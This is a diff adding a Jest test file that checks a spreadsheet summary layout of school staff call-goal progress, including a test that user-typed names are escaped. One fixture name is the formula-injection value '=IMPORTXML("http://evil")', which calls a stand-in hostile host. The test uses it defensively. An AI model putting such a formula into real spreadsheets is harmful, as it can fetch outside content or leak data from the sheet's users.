@@ -1,0 +1,130 @@
+import { SummaryResult, SchoolProgress, StaffProgress } from '../../src/core/progress';
+import { ALL_COUNTED_NOTE, summaryLayout } from '../../src/core/summaryTable';
+import { SUMMARY_SCHOOL_HEADERS, SUMMARY_STAFF_HEADERS } from '../../src/core/schema';
+
+function staffRow(p: Partial<StaffProgress>): StaffProgress {
+  return {
+    school: 'Lincoln',
+    name: 'Kim',
+    email: 'kim@s.org',
+    goal: 10,
+    familiesReached: 6,
+    attempts: 9,
+    thisWeek: 2,
+    percentOfGoal: 0.6,
+    status: 'On pace',
+    lastCall: '2026-09-14',
+    openFollowUps: 1,
+    counted: 6,
+    ...p,
+  };
+}
+
+function schoolRow(p: Partial<SchoolProgress>): SchoolProgress {
+  return {
+    school: 'Lincoln',
+    staffWithGoals: 5,
+    metGoal: 3,
+    exceededGoal: 1,
+    percentMet: 0.6,
+    familiesReached: 40,
+    rosterFamilies: 80,
+    percentRosterReached: 0.5,
+    openFollowUps: 2,
+    ...p,
+  };
+}
+
+const result: SummaryResult = {
+  staff: [
+    staffRow({}),
+    staffRow({ name: '=IMPORTXML("http://evil")', email: 'x@s.org', lastCall: null, school: '2026' }),
+  ],
+  schools: [
+    schoolRow({}),
+    schoolRow({
+      school: 'Adams',
+      staffWithGoals: 0,
+      metGoal: 0,
+      exceededGoal: 0,
+      percentMet: 0,
+      rosterFamilies: 0,
+      percentRosterReached: null,
+    }),
+  ],
+  district: schoolRow({ school: 'District', staffWithGoals: 5, familiesReached: 70, rosterFamilies: 80 }),
+  callsByUnknownStaff: { count: 0, emails: [] },
+  invalidCallRows: 0,
+  problems: [],
+};
+
+describe('summaryLayout', () => {
+  const layout = summaryLayout(result, '2026-09-15 14:05 America/Chicago');
+  const row = (n: number) => layout.values[n - 1];
+
+  test('is one rectangle of strings and numbers, 11 wide', () => {
+    for (const r of layout.values) {
+      expect(r).toHaveLength(11);
+      for (const cell of r) expect(['string', 'number']).toContain(typeof cell);
+    }
+  });
+
+  test('the title and the Last refreshed stamp come first', () => {
+    expect(layout.stampRow).toBe(1);
+    expect(row(1).slice(0, 2)).toEqual([
+      'Call goal progress',
+      'Last refreshed 2026-09-15 14:05 America/Chicago',
+    ]);
+    expect(row(2).every((c) => c === '')).toBe(true);
+  });
+
+  test('the staff table has the contract headers and one row per staff member with a goal', () => {
+    expect(layout.staffHeaderRow).toBe(3);
+    expect(row(3)).toEqual([...SUMMARY_STAFF_HEADERS]);
+    expect(layout.staffRows).toEqual({ first: 4, count: 2 });
+    expect(row(4)).toEqual(['Lincoln', 'Kim', 'kim@s.org', 10, 6, 9, 2, 0.6, 'On pace', '2026-09-14', 1]);
+    expect(SUMMARY_STAFF_HEADERS[layout.staffPercentColumn - 1]).toBe('% of Goal');
+  });
+
+  test('names people typed never become formulas or numbers, and no Last Call is blank', () => {
+    expect(row(5).slice(0, 3)).toEqual(["'2026", '\'=IMPORTXML("http://evil")', 'x@s.org']);
+    expect(row(5)[9]).toBe('');
+  });
+
+  test('the school table ends with the district total', () => {
+    expect(layout.schoolHeaderRow).toBe(7);
+    expect(row(7)).toEqual([...SUMMARY_SCHOOL_HEADERS, '', '']);
+    expect(layout.schoolRows).toEqual({ first: 8, count: 3 });
+    expect(layout.districtRow).toBe(10);
+    expect(row(8).slice(0, 9)).toEqual(['Lincoln', 5, 3, 1, 0.6, 40, 80, 0.5, 2]);
+    // No staff with goals and no Roster: the percentages are blank, not 0%.
+    expect(row(9).slice(0, 9)).toEqual(['Adams', 0, 0, 0, '', 40, 0, '', 2]);
+    expect(row(10)[0]).toBe('District');
+    expect(layout.schoolPercentColumns.map((c) => SUMMARY_SCHOOL_HEADERS[c - 1])).toEqual([
+      '% Met',
+      '% Roster Reached',
+    ]);
+  });
+
+  test('notes say everything was counted, or list the problems', () => {
+    expect(layout.notesRows).toEqual({ first: 12, count: 1 });
+    expect(row(12)[0]).toBe(ALL_COUNTED_NOTE);
+    expect(layout.values).toHaveLength(12);
+
+    const problems = [
+      '3 calls were logged by 1 person not on Staff (sub@s.org): add them to Staff so their calls count.',
+      'Second.',
+    ];
+    const withProblems = summaryLayout({ ...result, problems }, 'now');
+    expect(withProblems.notesRows).toEqual({ first: 12, count: 2 });
+    expect(withProblems.values.slice(11).map((r) => r[0])).toEqual([`'${problems[0]}`, 'Second.']);
+  });
+
+  test('with no staff rows, the parts still line up', () => {
+    const empty = summaryLayout({ ...result, staff: [], schools: [] }, 'now');
+    expect(empty.staffRows).toEqual({ first: 4, count: 0 });
+    expect(empty.schoolHeaderRow).toBe(5);
+    expect(empty.districtRow).toBe(6);
+    expect(empty.notesRows.first).toBe(8);
+  });
+});
